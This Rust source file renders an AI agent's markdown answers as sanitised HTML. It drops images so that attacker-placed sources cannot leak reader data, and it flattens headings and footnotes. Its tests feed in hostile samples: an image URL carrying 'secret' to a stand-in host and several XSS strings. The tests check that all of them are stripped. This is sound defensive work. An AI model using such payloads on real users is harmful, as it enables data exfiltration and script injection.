//! Renders the answers of an agent, which may have less than an article.

use std::collections::HashMap;

use pulldown_cmark::{Event, Tag, TagEnd};

use super::{
    bound::{self, TextLimitError},
    events, fence, normalize_line_ends, shape,
    words::ArticleLabels,
    writer,
};

/// Renders an answer. It has no images, which would tell other hosts who reads it, and which an author of one of
/// the agent's sources could have placed there. It has no headings and no footnotes either: several answers share a
/// page, so their ids would collide.
///
/// Slow, like [`super::render`]: keep it off the runtime's threads.
///
/// # Errors
/// The text exceeds a [`TextBound`].
pub fn render_answer(body: &str, words: &ArticleLabels) -> Result<String, TextLimitError> {
    bound::check_length(body)?;
    let body = normalize_line_ends(body);
    shape::check_depth(&body)?;
    let plainer = events::read_events(&body)?.main.into_iter().flat_map(simplify_event).collect();
    Ok(fence::sanitize(&writer::write_html(plainer, HashMap::new(), words)?.html))
}

/// Replaces an event: an image with its description, a heading with a paragraph in bold, and a footnote with nothing.
fn simplify_event(event: Event<'_>) -> Vec<Event<'_>> {
    match event {
        Event::Start(Tag::Heading { .. }) => vec![Event::Start(Tag::Paragraph), Event::Start(Tag::Strong)],
        Event::End(TagEnd::Heading(_)) => vec![Event::End(TagEnd::Strong), Event::End(TagEnd::Paragraph)],
        Event::Start(Tag::Image { .. }) | Event::End(TagEnd::Image) | Event::FootnoteReference(_) => Vec::new(),
        other => vec![other],
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn rendered(body: &str) -> String {
        render_answer(body, &ArticleLabels::ENGLISH).expect("it is within the bounds")
    }

    #[test]
    fn an_answer_is_rendered_as_an_article_is() {
        insta::assert_snapshot!(rendered("Open *Settings*:\n\n1. [Plan](/articles/7)\n2. `save`"), @r#"
        <p>Open <em>Settings</em>:</p>
        <ol>
        <li><a href="/articles/7">Plan</a></li>
        <li><code>save</code></li>
        </ol>
        "#);
    }

    #[test]
    fn nothing_in_it_has_an_id_or_is_loaded_from_elsewhere() {
        let html = rendered("# Setup\n\n![a chart](https://evil.test/?q=secret)[^1]\n\n## Setup\n\n[^1]: A note.");
        insta::assert_snapshot!(html, @"
        <p><strong>Setup</strong></p>
        <p>a chart</p>
        <p><strong>Setup</strong></p>
        ");
    }

    #[test]
    fn nothing_in_it_runs() {
        let html = rendered("<script>alert(1)</script>\n\n<img src=x onerror=alert(1)> [a](javascript:alert(1))");
        insta::assert_snapshot!(html, @"<p> a</p>");
    }
}
